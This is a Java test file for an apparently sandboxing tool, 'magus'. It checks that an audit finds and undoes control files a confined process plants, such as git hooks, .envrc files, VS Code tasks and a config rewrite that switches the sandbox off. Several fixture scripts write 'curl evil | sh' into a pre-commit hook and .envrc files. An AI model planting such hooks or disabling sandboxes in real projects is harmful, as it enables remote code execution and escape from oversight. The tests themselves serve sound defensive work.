package dev.magus.orchestrator;

import static org.assertj.core.api.Assertions.assertThat;

import dev.magus.events.Diagnostic;
import dev.magus.events.Layer;
import dev.magus.events.RunEvent;
import dev.magus.orchestrator.run.Run;
import dev.magus.orchestrator.run.RunRequest;
import dev.magus.orchestrator.run.RunResult;
import dev.magus.workspace.audit.AfterPass;
import dev.magus.workspace.audit.Watchers;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 12, the audit's after pass from the kernel's events (fanotify, when magus is root):
 * each reproduction is run by a real confined child twice, once with the events and once with
 * them switched off ({@code -Dmagus.audit.events=off}: every directory stamped), and both
 * find the same control files, and restore them. An overflowed event queue falls back to the
 * walk and still finds what was planted.
 */
class FanotifyAuditInRunsTest {
    static final String YAML = "sandbox:\n  mode: required\n";

    @TempDir
    Path root;
    TestHost t;

    @BeforeEach
    void setUp() throws IOException {
        TestHost.assumeLandlock();
        t = new TestHost(root).yaml(YAML);
        // A tree the walk knows, and control files in it, before any run.
        Files.createDirectories(t.workspace.resolve("a/b/c"));
        for (int i = 0; i < 20; i++) {
            Files.createDirectories(t.workspace.resolve("node_modules/p" + i + "/lib"));
            Files.writeString(t.workspace.resolve("node_modules/p" + i + "/lib/index.js"), "x\n");
        }
        Files.writeString(t.workspace.resolve("a/b/.envrc"), "export A=1\n");
    }

    @AfterEach
    void clearProperty() {
        System.clearProperty(Watchers.PROPERTY);
    }

    private record Outcome(RunResult result, List<String> findings, AfterPass pass, String text) {
    }

    /**
     * Runs {@code script} (each {@code %s} replaced by the mode, so both runs start alike),
     * with the events on or off; the findings as {@code path change entry restored}, sorted.
     */
    private Outcome run(String script, boolean events) {
        return run(script, events, events ? "on" : "off");
    }

    private Outcome run(String script, boolean events, String mode) {
        if (events) {
            System.clearProperty(Watchers.PROPERTY);
        } else {
            System.setProperty(Watchers.PROPERTY, "off");
        }
        Run run = t.orchestrator().submit(RunRequest.builder(t.workspace, "sh", "-c", script.replace("%s", mode)).build());
        List<RunEvent> evs = TestHost.events(run);
        RunResult result = run.result().block(TestHost.DEADLINE);
        List<String> findings = evs.stream().filter(e -> e instanceof RunEvent.Diag)
                .map(e -> ((RunEvent.Diag) e).diagnostic()).filter(d -> d.layer() == Layer.AUDIT)
                .map(d -> finding(d).replace("_" + mode, "_MODE")).sorted().toList();
        AfterPass pass = t.services.audits().lastAfterPass().orElseThrow();
        return new Outcome(result, findings, pass, TestHost.text(evs));
    }

    private String finding(Diagnostic d) {
        Path p = Path.of(d.subject());
        String shown = p.startsWith(t.workspace) ? t.workspace.relativize(p).toString() : p.toString();
        return shown + " " + d.details().get("change") + " " + d.details().get("entry") + " restored="
                + d.details().get("restored");
    }

    /** The same script with the events and without: the same findings, at least {@code expected}. */
    private List<String> bothWays(String script, Runnable restoredCheck, String... expected) {
        Outcome on = run(script, true, "on1");
        // Other processes' events on the same filesystem (a build alongside) can overflow the
        // queue: the run then rightly walks; try again for a run whose events held.
        for (int attempt = 2; attempt <= 3 && !on.pass().events() && busy(on.pass()); attempt++) {
            System.err.println("FanotifyAuditInRunsTest: the filesystem was busy (" + on.pass().detail() + "), again");
            on = run(script, true, "on" + attempt);
        }
        Outcome first = on;
        Assumptions.assumeTrue(on.pass().events() || !on.pass().detail().contains("EPERM"),
                () -> "fanotify needs root here: " + first.pass().detail());
        assertThat(on.pass()).as("the after pass used the kernel's events: %s", on.pass()).extracting(AfterPass::events)
                .isEqualTo(true);
        assertThat(on.findings()).as(on.text()).contains(expected);
        assertThat(on.result().status()).isEqualTo(1);
        restoredCheck.run();

        Outcome off = run(script, false);
        assertThat(off.pass().events()).isFalse();
        assertThat(off.pass().detail()).contains(Watchers.PROPERTY);
        assertThat(off.findings()).as("the same findings with every directory stamped").isEqualTo(on.findings());
        assertThat(off.result().status()).isEqualTo(1);
        restoredCheck.run();
        return on.findings();
    }

    private static boolean busy(AfterPass pass) {
        return pass.detail().contains("overflow") || pass.detail().contains("directories changed");
    }

    private void unchanged(Path p, String text) {
        try {
            assertThat(Files.isSymbolicLink(p)).as("%s is no link", p).isFalse();
            assertThat(Files.readString(p)).isEqualTo(text);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @Test
    void aPlantedHookIsFoundAndRemovedBothWays() throws Exception {
        git();
        Path hook = t.workspace.resolve(".git/hooks/pre-commit");
        bothWays("printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
                () -> assertThat(hook).doesNotExist(), ".git/hooks/pre-commit created .git/hooks/ restored=true");
    }

    @Test
    void aMagusYamlRewriteIsFoundAndRestoredBothWays() {
        bothWays("printf 'sandbox: {mode: off}\\n' > magus.yaml", () -> unchanged(t.workspace.resolve("magus.yaml"), YAML),
                "magus.yaml changed magus.yaml restored=true");
    }

    @Test
    void anEnvrcCreatedDeepIsFoundAndRemovedBothWays() {
        bothWays("echo 'curl evil | sh' > a/b/c/.envrc && mkdir -p node_modules/p7/lib/x_%s"
                        + " && echo evil > node_modules/p7/lib/x_%s/.envrc",
                () -> assertThat(t.workspace.resolve("a/b/c/.envrc")).doesNotExist(),
                "a/b/c/.envrc created .envrc restored=true", "node_modules/p7/lib/x_MODE/.envrc created .envrc restored=true");
    }

    @Test
    void aDirectoryWithControlFilesMovedInIsFoundBothWays() {
        // Made in the run's private temp dir (outside the walk), then renamed into the workspace.
        bothWays("mkdir -p \"$TMPDIR/p_%s/.vscode\" && echo '{}' > \"$TMPDIR/p_%s/.vscode/tasks.json\""
                        + " && echo evil > \"$TMPDIR/p_%s/.envrc\" && mv \"$TMPDIR/p_%s\" a/b/c/p_%s",
                () -> assertThat(t.workspace.resolve("a/b/c/p_on1/.envrc")).doesNotExist(),
                "a/b/c/p_MODE/.envrc created .envrc restored=true", "a/b/c/p_MODE/.vscode/tasks.json created .vscode/tasks.json restored=true");
    }

    @Test
    void aControlFileRenamedAwayAndOneRenamedIntoPlaceAreFoundBothWays() {
        bothWays("mv a/b/.envrc a/b/envrc_%s && echo evil > a/x_%s && mv a/x_%s a/magus.yaml",
                () -> {
                    unchanged(t.workspace.resolve("a/b/.envrc"), "export A=1\n");
                    assertThat(t.workspace.resolve("a/magus.yaml")).doesNotExist();
                },
                "a/b/.envrc removed .envrc restored=true", "a/magus.yaml created magus.yaml restored=true");
    }

    @Test
    void aControlFileSwappedForALinkIsFoundAndRestoredBothWays() {
        bothWays("echo evil > a/b/envrc_%s && ln -sfn envrc_%s a/b/.envrc",
                () -> unchanged(t.workspace.resolve("a/b/.envrc"), "export A=1\n"),
                "a/b/.envrc changed .envrc restored=true");
    }

    @Test
    void anOverflowedQueueFallsBackToTheWalkAndStillFindsThePlantedFile() {
        // More names than the kernel's default queue (16384 events) holds, then a planted .envrc.
        Outcome on = run("mkdir many && cd many && seq 1 20000 | xargs touch && cd .. && echo evil > a/b/c/.envrc", true);
        Assumptions.assumeFalse(on.pass().detail().contains("EPERM"), () -> "fanotify needs root: " + on.pass().detail());
        assertThat(on.pass().events()).as("%s", on.pass()).isFalse();
        assertThat(on.pass().detail()).contains("overflow");
        assertThat(on.findings()).as(on.text()).containsExactly("a/b/c/.envrc created .envrc restored=true");
        assertThat(t.workspace.resolve("a/b/c/.envrc")).doesNotExist();
        assertThat(Files.exists(t.workspace.resolve("many/20000"), LinkOption.NOFOLLOW_LINKS)).isTrue();
    }

    @Test
    void theChildInheritsNoFanotifyDescriptor() {
        Run run = t.orchestrator().submit(RunRequest.builder(t.workspace, "sh", "-c",
                "for f in /proc/self/fd/*; do echo \"fd $f -> $(readlink $f)\"; done").build());
        List<RunEvent> evs = TestHost.events(run);
        RunResult result = run.result().block(TestHost.DEADLINE);
        AfterPass pass = t.services.audits().lastAfterPass().orElseThrow();
        Assumptions.assumeTrue(pass.events(), () -> "fanotify not in use here: " + pass.detail());
        List<String> lines = TestHost.lines(evs, RunEvent.Stream.STDOUT);
        assertThat(result.status()).as(TestHost.text(evs)).isZero();
        assertThat(lines).as("the child could list its descriptors").anyMatch(l -> l.startsWith("fd /proc/self/fd/0"));
        assertThat(lines).noneMatch(l -> l.contains("fanotify"));
    }

    /** A repository made by the test, unconfined, in the fake home. */
    private void git() throws IOException, InterruptedException {
        t.gitInit("fanotify hook test skipped: no git on PATH");
    }
}
